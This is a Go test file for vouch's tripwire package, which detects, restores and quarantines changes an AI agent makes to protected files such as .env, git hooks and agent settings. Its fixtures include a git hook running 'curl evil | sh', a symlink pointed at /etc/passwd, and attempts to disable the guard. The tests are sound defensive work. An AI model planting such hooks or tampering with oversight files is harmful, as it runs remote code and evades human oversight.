package tripwire

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/vouchdev/vouch/policy"
)

// project is a scratch project with protected files and its options.
type project struct {
	t    testing.TB
	root string
	o    *Options
}

// original content of the project's files, checked byte for byte after a
// restore.
var seed = map[string]struct {
	data string
	mode fs.FileMode
}{
	".env":                  {"SECRET=1\n", 0o600},
	"vouch.yaml":            {"loop:\n  max: 3\n", 0o644},
	".claude/settings.json": {`{"hooks":{}}` + "\n", 0o644},
	".git/config":           {"[core]\n\tbare = false\n", 0o644},
	".git/HEAD":             {"ref: refs/heads/main\n", 0o644},
	".git/info/exclude":     {"# exclude\n", 0o644},
	"app/config/.env":       {"APP=1\n", 0o640},
	"main.go":               {"package main\n", 0o644},
	"deploy.key":            {"KEY\n", 0o400},
	"node_modules/x/.env":   {"DEP=1\n", 0o644},
}

func newProject(t testing.TB) *project {
	t.Helper()
	root := t.TempDir()
	for rel, f := range seed {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.data), f.mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, f.mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("config/.env", filepath.Join(root, "app", ".npmrc")); err != nil {
		t.Fatal(err)
	}
	return &project{t: t, root: root, o: options(root, t.TempDir())}
}

func options(root, stateDir string) *Options {
	cfg := policy.Default()
	cfg.Root = root
	return &Options{Root: root, StateDir: stateDir, Protected: cfg.Protected}
}

func (p *project) path(rel string) string { return filepath.Join(p.root, filepath.FromSlash(rel)) }

func (p *project) write(rel, data string) {
	p.t.Helper()
	if err := os.MkdirAll(filepath.Dir(p.path(rel)), 0o755); err != nil {
		p.t.Fatal(err)
	}
	if err := os.WriteFile(p.path(rel), []byte(data), 0o644); err != nil {
		p.t.Fatal(err)
	}
}

func (p *project) snapshot() {
	p.t.Helper()
	if err := Snapshot(p.o); err != nil {
		p.t.Fatal(err)
	}
}

func (p *project) check() []Change {
	p.t.Helper()
	cs, err := Check(p.o)
	if err != nil {
		p.t.Fatal(err)
	}
	return cs
}

// same fails unless rel has its seed content and mode.
func (p *project) same(rel string) {
	p.t.Helper()
	f := seed[rel]
	fi, err := os.Lstat(p.path(rel))
	if err != nil {
		p.t.Fatalf("%s: %v", rel, err)
	}
	if !fi.Mode().IsRegular() || fi.Mode() != f.mode {
		p.t.Errorf("%s: mode %v, want %v", rel, fi.Mode(), f.mode)
	}
	data, _ := os.ReadFile(p.path(rel))
	if string(data) != f.data {
		p.t.Errorf("%s: content %q, want %q", rel, data, f.data)
	}
}

func TestChanges(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("x", MaxCopy+10)
	cases := []struct {
		name   string
		change func(p *project)
		path   string // the change reported
		what   string
		intact []string // seed files identical after a restore
		gone   string   // a created path that must be gone after a restore
	}{
		{"modified", func(p *project) { p.write(".env", "SECRET=stolen\n") }, ".env", "modified", []string{".env"}, ""},
		{"modified same size", func(p *project) { p.write(".env", "SECRET=2\n") }, ".env", "modified", []string{".env"}, ""},
		{"appended", func(p *project) {
			f, _ := os.OpenFile(p.path("vouch.yaml"), os.O_APPEND|os.O_WRONLY, 0)
			f.WriteString("off: true\n")
			f.Close()
		}, "vouch.yaml", "modified", []string{"vouch.yaml"}, ""},
		{"removed", func(p *project) { os.Remove(p.path(".env")) }, ".env", "removed", []string{".env"}, ""},
		{"chmod", func(p *project) { os.Chmod(p.path("deploy.key"), 0o666) }, "deploy.key", "mode changed", []string{"deploy.key"}, ""},
		{"replaced by a symlink", func(p *project) {
			os.Remove(p.path(".env"))
			os.Symlink("/etc/hostname", p.path(".env"))
		}, ".env", "replaced by a symlink", []string{".env"}, ""},
		{"replaced by a directory", func(p *project) {
			os.Remove(p.path("vouch.yaml"))
			p.write("vouch.yaml/inside", "agent's\n")
		}, "vouch.yaml", "replaced by a directory", []string{"vouch.yaml"}, ""},
		{"grown beyond 1 MiB", func(p *project) { p.write(".env", big) }, ".env", "modified", []string{".env"}, ""},
		{"nested", func(p *project) { p.write("app/config/.env", "APP=2\n") }, "app/config/.env", "modified", []string{"app/config/.env"}, ""},
		{"git config", func(p *project) { p.write(".git/config", "[core]\n\thooksPath = /tmp/x\n") }, ".git/config", "modified", []string{".git/config"}, ""},
		{"git info", func(p *project) { p.write(".git/info/exclude", "*\n") }, ".git/info/exclude", "modified", []string{".git/info/exclude"}, ""},
		{"claude settings", func(p *project) { p.write(".claude/settings.json", "{}") }, ".claude/settings.json", "modified", []string{".claude/settings.json"}, ""},
		{"created .env", func(p *project) { p.write("app/.env", "NEW=1\n") }, "app/.env", "created", nil, "app/.env"},
		{"created .env.local", func(p *project) { p.write(".env.local", "NEW=1\n") }, ".env.local", "created", nil, ".env.local"},
		{"created git hook", func(p *project) {
			p.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
		}, ".git/hooks/pre-commit", "created", nil, ".git/hooks/pre-commit"},
		{"created claude local settings", func(p *project) { p.write(".claude/settings.local.json", "{}") }, ".claude/settings.local.json", "created", nil, ".claude/settings.local.json"},
		{"created codex hooks where no .codex was", func(p *project) { p.write(".codex/hooks.json", "{}") }, ".codex/hooks.json", "created", nil, ".codex/hooks.json"},
		{"created pi extension directory", func(p *project) {
			p.write(".pi/extensions/vouch-off/index.ts", "export {}\n")
		}, ".pi/extensions/vouch-off", "created", nil, ".pi/extensions/vouch-off"},
		{"symlink retargeted", func(p *project) {
			os.Remove(p.path("app/.npmrc"))
			os.Symlink("/etc/passwd", p.path("app/.npmrc"))
		}, "app/.npmrc", "link target changed", nil, ""},
		{"settings directory replaced by a symlink", func(p *project) {
			elsewhere := t.TempDir()
			os.WriteFile(filepath.Join(elsewhere, "settings.json"), []byte("{}"), 0o644)
			os.RemoveAll(p.path(".claude"))
			os.Symlink(elsewhere, p.path(".claude"))
		}, ".claude", "directory replaced by a symlink", []string{".claude/settings.json"}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, mode := range []string{policy.OnChangeRestore, policy.OnChangeReport} {
				p := newProject(t)
				p.o.OnChange = mode
				p.snapshot()
				c.change(p)
				cs := p.check()
				var got *Change
				for i := range cs {
					if cs[i].Path == c.path {
						got = &cs[i]
					}
				}
				if got == nil || got.What != c.what {
					t.Fatalf("%s: changes %+v, want %s %s", mode, cs, c.path, c.what)
				}
				if got.Rule == "" {
					t.Errorf("%s: no rule in %+v", mode, got)
				}
				if mode == policy.OnChangeReport {
					if got.Restored || got.Err != reportOnly {
						t.Errorf("report mode: %+v", got)
					}
					un, err := Unresolved(p.o)
					if err != nil || len(un) == 0 || un[0].Path == "" {
						t.Errorf("report mode: unresolved %+v, %v; want the change", un, err)
					}
					if again := p.check(); len(again) != 0 {
						t.Errorf("report mode: reported again without a new change: %+v", again)
					}
					continue
				}
				if !got.Restored || got.Err != "" {
					t.Fatalf("not restored: %+v", got)
				}
				for _, rel := range c.intact {
					p.same(rel)
				}
				if c.gone != "" {
					if _, err := os.Lstat(p.path(c.gone)); !errors.Is(err, fs.ErrNotExist) {
						t.Errorf("%s still there after a restore: %v", c.gone, err)
					}
					if got.Moved == "" {
						t.Errorf("created path not moved to quarantine: %+v", got)
					} else if _, err := os.Lstat(got.Moved); err != nil {
						t.Errorf("quarantine: %v", err)
					}
				}
				if c.what == "link target changed" {
					if l, _ := os.Readlink(p.path(c.path)); l != "config/.env" {
						t.Errorf("link restored to %q", l)
					}
				}
				if again := p.check(); len(again) != 0 {
					t.Errorf("a Check after the restore: %+v, want none", again)
				}
				if un, err := Unresolved(p.o); err != nil || len(un) != 0 {
					t.Errorf("unresolved after a restore: %+v, %v", un, err)
				}
				for rel := range seed {
					if rel != ".git/HEAD" && !strings.HasPrefix(rel, "node_modules/") && rel != c.path {
						p.same(rel)
					}
				}
			}
		})
	}
}

// A directory an agent put in place of a file is moved, whole, to the
// quarantine.
func TestDirectoryQuarantined(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	os.Remove(p.path("vouch.yaml"))
	p.write("vouch.yaml/keep", "agent's work\n")
	cs := p.check()
	if len(cs) != 1 || cs[0].Moved == "" {
		t.Fatalf("changes %+v", cs)
	}
	data, err := os.ReadFile(filepath.Join(cs[0].Moved, "keep"))
	if err != nil || string(data) != "agent's work\n" {
		t.Errorf("quarantined directory: %q, %v", data, err)
	}
	p.same("vouch.yaml")
}

func TestTouchIsNoChange(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	later := time.Now().Add(time.Hour)
	os.Chtimes(p.path(".env"), later, later)
	os.Chmod(p.path("vouch.yaml"), 0o600)
	os.Chmod(p.path("vouch.yaml"), 0o644)
	// Rewritten with the same content: a new inode, nothing changed.
	os.Remove(p.path("main.go"))
	os.WriteFile(p.path(".git/config"), []byte(seed[".git/config"].data), 0o644)
	if cs := p.check(); len(cs) != 0 {
		t.Fatalf("changes %+v, want none", cs)
	}
	m, err := (&state{o: *p.o, dir: Dir(p.o.StateDir, p.root)}).load()
	if err != nil {
		t.Fatal(err)
	}
	cur, _ := lstat(p.path(".env"))
	if e := m.file(".env"); e == nil || e.stat != cur {
		t.Errorf("stat of a touched file not refreshed: %+v, now %+v", e, cur)
	}
}

func TestUserChangeAccepted(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	p.write(".env", "SECRET=rotated by the user\n")
	p.write(".env.local", "USER=1\n")
	p.snapshot() // the next prompt
	if cs := p.check(); len(cs) != 0 {
		t.Fatalf("changes %+v, want none", cs)
	}
	for rel, want := range map[string]string{".env": "SECRET=rotated by the user\n", ".env.local": "USER=1\n"} {
		if data, _ := os.ReadFile(p.path(rel)); string(data) != want {
			t.Errorf("%s: %q, want the user's %q", rel, data, want)
		}
	}
	// And the accepted state is what is restored from now on.
	p.write(".env", "agent\n")
	p.check()
	if data, _ := os.ReadFile(p.path(".env")); string(data) != "SECRET=rotated by the user\n" {
		t.Errorf(".env restored to %q", data)
	}
}

// A change reported (report mode) stays unresolved until the path is as
// in the snapshot again, or until the next Snapshot.
func TestUnresolved(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.o.OnChange = policy.OnChangeReport
	p.snapshot()
	p.write(".env", "x\n")
	p.write(".env.local", "y\n")
	if cs := p.check(); len(cs) != 2 {
		t.Fatalf("changes %+v, want 2", cs)
	}
	un, _ := Unresolved(p.o)
	if len(un) != 2 {
		t.Fatalf("unresolved %+v", un)
	}
	os.WriteFile(p.path(".env"), []byte(seed[".env"].data), 0o600)
	un, _ = Unresolved(p.o)
	if len(un) != 1 || un[0].Path != ".env.local" {
		t.Fatalf("after putting .env back: unresolved %+v, want .env.local", un)
	}
	os.Remove(p.path(".env.local"))
	if un, _ = Unresolved(p.o); len(un) != 0 {
		t.Fatalf("after removing .env.local: unresolved %+v", un)
	}
	p.write(".env", "z\n")
	p.check()
	p.snapshot()
	if un, _ = Unresolved(p.o); len(un) != 0 {
		t.Fatalf("after a snapshot: unresolved %+v", un)
	}
}

func TestLargeFileReported(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.write("big.key", strings.Repeat("k", MaxCopy+1))
	p.snapshot()
	p.write("big.key", strings.Repeat("j", MaxCopy+1))
	cs := p.check()
	if len(cs) != 1 || cs[0].Restored || cs[0].Err != "larger than 1 MiB, no copy kept" {
		t.Fatalf("changes %+v", cs)
	}
	if un, _ := Unresolved(p.o); len(un) != 1 {
		t.Errorf("unresolved %+v", un)
	}
}

func TestOutside(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	home := t.TempDir()
	settings := filepath.Join(home, ".claude", "settings.json")
	codex := filepath.Join(home, ".codex", "hooks.json")
	bin := filepath.Join(home, "bin", "vouch-hook")
	os.MkdirAll(filepath.Dir(settings), 0o755)
	os.MkdirAll(filepath.Dir(bin), 0o755)
	os.WriteFile(settings, []byte(`{"hooks":{"Stop":[]}}`), 0o644)
	os.WriteFile(bin, bytes.Repeat([]byte{0x7f}, MaxCopy+1), 0o755)
	p.o.Outside = []string{settings, codex, bin}
	p.snapshot()

	os.WriteFile(settings, []byte(`{}`), 0o644)
	os.MkdirAll(filepath.Dir(codex), 0o755)
	os.WriteFile(codex, []byte(`{}`), 0o644)
	os.WriteFile(bin, []byte("#!/bin/sh\nexit 0\n"), 0o755)
	cs := p.check()
	got := map[string]Change{}
	for _, c := range cs {
		got[c.Path] = c
	}
	if c := got[settings]; c.What != "modified" || !c.Restored {
		t.Errorf("settings: %+v", c)
	}
	if data, _ := os.ReadFile(settings); string(data) != `{"hooks":{"Stop":[]}}` {
		t.Errorf("settings restored to %q", data)
	}
	if c := got[codex]; c.What != "created" || !c.Restored {
		t.Errorf("codex hooks: %+v", c)
	}
	if _, err := os.Lstat(codex); err == nil {
		t.Errorf("created codex hooks left in place")
	}
	if c := got[bin]; c.What != "modified" || c.Restored || !strings.Contains(c.Err, "1 MiB") {
		t.Errorf("binary: %+v", c)
	}
	if len(cs) != 3 {
		t.Errorf("changes %+v, want 3", cs)
	}
}

// OutsideFunc gives the outside paths when a snapshot is taken, and is
// not called by a check that finds nothing changed: a hook answering
// PostToolUse does not look for vouch's own files.
func TestOutsideFunc(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	settings := filepath.Join(t.TempDir(), "settings.json")
	os.WriteFile(settings, []byte(`{"hooks":{}}`), 0o644)
	calls := 0
	p.o.Outside = []string{"/ignored/when/OutsideFunc/is/set"}
	p.o.OutsideFunc = func() []string { calls++; return []string{settings} }
	p.snapshot()
	if calls != 1 {
		t.Fatalf("OutsideFunc called %d times by a snapshot, want 1", calls)
	}
	if cs := p.check(); len(cs) != 0 || calls != 1 {
		t.Fatalf("unchanged: changes %+v, OutsideFunc called %d times, want none and 1", cs, calls)
	}
	os.WriteFile(settings, []byte(`{}`), 0o644)
	cs := p.check()
	if len(cs) != 1 || cs[0].Path != settings || !cs[0].Restored || calls != 1 {
		t.Fatalf("changes %+v, OutsideFunc called %d times, want %s restored and 1", cs, calls, settings)
	}
	if data, _ := os.ReadFile(settings); string(data) != `{"hooks":{}}` {
		t.Errorf("settings restored to %q", data)
	}
}

// A protected directory (policy.protect: keys/**) that a call removed is
// put back once: recreating it changes the root, and the next check must
// not take the directory for one the agent created (it was quarantined,
// its files restored, and again on every later call), nor the other
// protected directories next to it.
func TestProtectedDirRemoved(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.write("keys/deploy.pem", "PEM\n")
	p.write("secrets/api.key", "KEY\n")
	base := p.o.Protected
	p.o.Protected = func(rel string) (string, bool) {
		for _, dir := range []string{"keys", "secrets", "vault"} {
			if rel == dir || strings.HasPrefix(rel, dir+"/") {
				return dir + "/**", true
			}
		}
		return base(rel)
	}
	p.snapshot()
	if err := os.RemoveAll(p.path("keys")); err != nil {
		t.Fatal(err)
	}
	cs := p.check()
	if len(cs) != 1 || cs[0].Path != "keys/deploy.pem" || cs[0].What != "removed" || !cs[0].Restored {
		t.Fatalf("changes %+v, want keys/deploy.pem removed and restored", cs)
	}
	for i := range 3 {
		if cs := p.check(); len(cs) != 0 {
			t.Fatalf("check %d after the restore: changes %+v, want none", i+2, cs)
		}
	}
	for rel, want := range map[string]string{"keys/deploy.pem": "PEM\n", "secrets/api.key": "KEY\n"} {
		if data, err := os.ReadFile(p.path(rel)); err != nil || string(data) != want {
			t.Errorf("%s: %q, %v; want %q", rel, data, err, want)
		}
	}
	// A protected directory that was not there is still one created.
	p.write("vault/token", "T\n")
	if cs := p.check(); len(cs) != 1 || cs[0].Path != "vault" || cs[0].What != "created" || !cs[0].Restored {
		t.Fatalf("changes %+v, want vault created and moved to quarantine", cs)
	}
	if _, err := os.Lstat(p.path("vault")); err == nil {
		t.Errorf("created vault left in place")
	}
}

// Heavy directories are not walked: a dependency's .env is not watched.
func TestHeavySkipped(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	p.write("node_modules/x/.env", "changed by npm\n")
	if cs := p.check(); len(cs) != 0 {
		t.Fatalf("changes %+v, want none", cs)
	}
}

// git's own operations change .git, and none of it is reported.
func TestGitOperations(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	root := t.TempDir()
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = root
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
			"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(root, "a.go"), []byte("package a\n"), 0o644)
	os.WriteFile(filepath.Join(root, ".env"), []byte("S=1\n"), 0o644)
	o := options(root, t.TempDir())
	if err := Snapshot(o); err != nil {
		t.Fatal(err)
	}
	steps := [][]string{
		{"add", "a.go"},
		{"commit", "-q", "-m", "first"},
		{"checkout", "-q", "-b", "feature"},
		{"commit", "-q", "--allow-empty", "-m", "second"},
		{"checkout", "-q", "main"},
		{"merge", "-q", "feature"},
		{"tag", "v1"},
		{"stash", "list"},
		{"gc", "-q"},
		{"status", "--short"},
	}
	for _, s := range steps {
		os.WriteFile(filepath.Join(root, "a.go"), []byte("package a // "+s[0]+"\n"), 0o644)
		if s[0] == "stash" {
			git("stash", "-q")
			git("stash", "pop", "-q")
		}
		git(s...)
		cs, err := Check(o)
		if err != nil {
			t.Fatal(err)
		}
		if len(cs) != 0 {
			t.Fatalf("after git %v: changes %+v, want none", s, cs)
		}
	}
}

// The hooks of parallel tool calls check at once: one restores, the rest
// see a restored file.
func TestConcurrentChecks(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	p.write(".env", "stolen\n")
	p.write(".env.local", "new\n")
	var wg sync.WaitGroup
	var mu sync.Mutex
	var all []Change
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			cs, err := Check(p.o)
			if err != nil {
				t.Error(err)
			}
			mu.Lock()
			all = append(all, cs...)
			mu.Unlock()
		}()
	}
	wg.Wait()
	if len(all) != 2 {
		t.Fatalf("changes %+v, want .env restored once and .env.local moved once", all)
	}
	p.same(".env")
	ents, _ := os.ReadDir(p.root)
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), ".vouch-restore-") || e.Name() == ".env.local" {
			t.Errorf("left behind: %s", e.Name())
		}
	}
}

func TestStateModes(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	p.write(".env.local", "x")
	p.check()
	n := 0
	filepath.WalkDir(p.o.StateDir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || path == p.o.StateDir {
			return err
		}
		if strings.Contains(path, "quarantine"+string(filepath.Separator)) && !d.IsDir() {
			return nil // what was moved keeps its mode, inside a 0700 directory
		}
		fi, _ := d.Info()
		want := fs.FileMode(0o600)
		if d.IsDir() {
			want = fs.ModeDir | 0o700
		}
		if fi.Mode() != want {
			t.Errorf("%s: mode %v, want %v", path, fi.Mode(), want)
		}
		n++
		return nil
	})
	if n < 5 {
		t.Errorf("only %d state entries", n)
	}
}

func TestCorruptManifest(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.snapshot()
	name := filepath.Join(Dir(p.o.StateDir, p.root), "manifest")
	os.WriteFile(name, []byte(`{"v":1,"root":`), 0o600)
	_, err := Check(p.o)
	if !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), name) {
		t.Fatalf("Check: %v, want ErrCorrupt naming %s", err, name)
	}
	if _, err := Unresolved(p.o); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Unresolved: %v", err)
	}
	p.snapshot()
	if cs := p.check(); len(cs) != 0 {
		t.Fatalf("after a new snapshot: %+v", cs)
	}
}

func TestEnsure(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	if cs := p.check(); cs != nil {
		t.Fatalf("Check without a snapshot: %+v", cs)
	}
	p.o.Root = p.path("app") // another root: no snapshot yet
	taken, err := Ensure(p.o)
	if err != nil || !taken {
		t.Fatalf("Ensure: %v, %v; want a snapshot taken", taken, err)
	}
	p.write("app/config/.env", "x")
	if taken, err = Ensure(p.o); err != nil || taken {
		t.Fatalf("second Ensure: %v, %v; want none taken", taken, err)
	}
	if cs := p.check(); len(cs) != 1 || cs[0].Path != "config/.env" {
		t.Fatalf("changes %+v", cs)
	}
}

func TestOptionsErrors(t *testing.T) {
	t.Parallel()
	for _, o := range []*Options{nil, {Root: "rel", StateDir: "/tmp"}, {Root: "/x"}, {Root: "/x", StateDir: "/tmp", OnChange: "undo"}, {Root: "/", StateDir: "/tmp"}} {
		if _, err := Check(o); err == nil {
			t.Errorf("Check(%+v): no error", o)
		}
	}
}

// A move into a quarantine on another file system copies and then
// removes.
func TestQuarantineAcrossFileSystems(t *testing.T) {
	p := newProject(t)
	old := rename
	rename = func(a, b string) error {
		if strings.Contains(b, "quarantine") {
			return &os.LinkError{Op: "rename", Old: a, New: b, Err: syscall.EXDEV}
		}
		return old(a, b)
	}
	defer func() { rename = old }()
	p.snapshot()
	p.write(".pi/extensions/vouch-off/index.ts", "export {}\n")
	os.Symlink("index.ts", p.path(".pi/extensions/vouch-off/link"))
	cs := p.check()
	if len(cs) != 1 || !cs[0].Restored {
		t.Fatalf("changes %+v", cs)
	}
	if _, err := os.Lstat(p.path(".pi/extensions/vouch-off")); err == nil {
		t.Error("still in place")
	}
	if data, _ := os.ReadFile(filepath.Join(cs[0].Moved, "index.ts")); string(data) != "export {}\n" {
		t.Errorf("quarantined content %q", data)
	}
	if l, _ := os.Readlink(filepath.Join(cs[0].Moved, "link")); l != "index.ts" {
		t.Errorf("quarantined link %q", l)
	}
}

func TestMessage(t *testing.T) {
	t.Parallel()
	if Message(nil) != "" {
		t.Error("a message without changes")
	}
	m := Message([]Change{
		{Path: ".env", What: "modified", Rule: ".env", Restored: true},
		{Path: ".git/hooks/pre-commit", What: "created", Rule: ".git/**", Restored: true, Moved: "/s/q/pre-commit"},
		{Path: "big.key", What: "modified", Rule: "*.key", Err: "larger than 1 MiB, no copy kept"},
	})
	for _, want := range []string{MessagePrefix, ".env: modified", `rule ".env"`, "restored", "/s/q/pre-commit",
		"not restored: larger than 1 MiB", "ask the user", "will not let the turn end"} {
		if !strings.Contains(m, want) {
			t.Errorf("message lacks %q:\n%s", want, m)
		}
	}
}

func FuzzManifest(f *testing.F) {
	p := newProject(f)
	p.o.Outside = []string{"/nonexistent/settings.json"}
	p.snapshot()
	p.o.OnChange = policy.OnChangeReport
	p.write(".env", "x")
	p.check()
	good, err := os.ReadFile(filepath.Join(Dir(p.o.StateDir, p.root), "manifest"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(good)
	f.Add(good[:len(good)/2])
	f.Add([]byte("vouch-tripwire 1\nroot\t/r\nf\t../x\t\t\t0\t1\t0\t0\t0\t0\t0\t\n"))
	f.Add([]byte("vouch-tripwire 1\nroot\t/r\nf\ta\t\tzz\t1\t1\t0\t0\t0\t0\t0\t\n"))
	f.Add([]byte("vouch-tripwire 1\nroot\t/r\nd\ta\\tb\t1\t0\t0\t0\t0\t0\tx\\\n"))
	f.Add([]byte("vouch-tripwire 2\n"))
	f.Add([]byte("{}"))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := decodeManifest("m.json", data)
		if err != nil {
			if !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "m.json") {
				t.Fatalf("error %v: want ErrCorrupt naming the file", err)
			}
			return
		}
		for _, e := range m.Files {
			if checkPath(e.Path) != nil || e.Path == ".." || strings.HasPrefix(e.Path, "../") {
				t.Fatalf("accepted path %q", e.Path)
			}
		}
		// What decodes encodes to what decodes the same.
		again, err := decodeManifest("m.json", encodeManifest(m))
		if err != nil {
			t.Fatalf("re-encoded manifest: %v", err)
		}
		if !reflect.DeepEqual(normal(m), normal(again)) {
			t.Fatalf("round trip:\n%+v\n%+v", m, again)
		}
		// Whatever decodes can be checked against a real root without
		// panicking or writing outside the state directory.
		m.Root = p.root
		s := &state{o: *p.o, dir: t.TempDir()}
		s.o.OnChange = policy.OnChangeReport
		s.check(m)
	})
}

// normal makes empty and nil slices equal.
func normal(m *manifest) manifest {
	c := *m
	if len(c.Files) == 0 {
		c.Files = nil
	}
	if len(c.Dirs) == 0 {
		c.Dirs = nil
	}
	if len(c.Pending) == 0 {
		c.Pending = nil
	}
	return c
}

// vouch's own state directory, listed among the outside paths (it is
// protected from the agent), is not watched: vouch writes it all the time.
// A directory outside stands for its files.
func TestOutsideStateDirAndDirectories(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	ext := filepath.Join(t.TempDir(), "extensions", "vouch")
	os.MkdirAll(ext, 0o755)
	os.WriteFile(filepath.Join(ext, "index.ts"), []byte("export {}\n"), 0o644)
	p.o.Outside = []string{p.o.StateDir, filepath.Dir(p.o.StateDir), ext}
	p.snapshot()
	os.WriteFile(filepath.Join(p.o.StateDir, "vouch.db"), []byte("x"), 0o600)
	os.WriteFile(filepath.Join(ext, "index.ts"), []byte("export const off = 1\n"), 0o644)
	cs := p.check()
	if len(cs) != 1 || cs[0].Path != filepath.Join(ext, "index.ts") || !cs[0].Restored {
		t.Fatalf("changes %+v, want the extension's index.ts restored", cs)
	}
}

// A walk over its limit says so, and what it found is still watched.
func TestWalkCapped(t *testing.T) {
	p := newProject(t)
	for i := range 50 {
		p.write(fmt.Sprintf("a/%02d.txt", i), "x")
	}
	old := maxWalk
	maxWalk = 20
	defer func() { maxWalk = old }()
	sum, err := Take(p.o)
	if err != nil || !sum.Capped {
		t.Fatalf("Take: %+v, %v; want capped", sum, err)
	}
	maxWalk = old
	full, err := Take(p.o)
	if err != nil || full.Capped || full.Files <= sum.Files {
		t.Fatalf("uncapped %+v after capped %+v, %v", full, sum, err)
	}
}
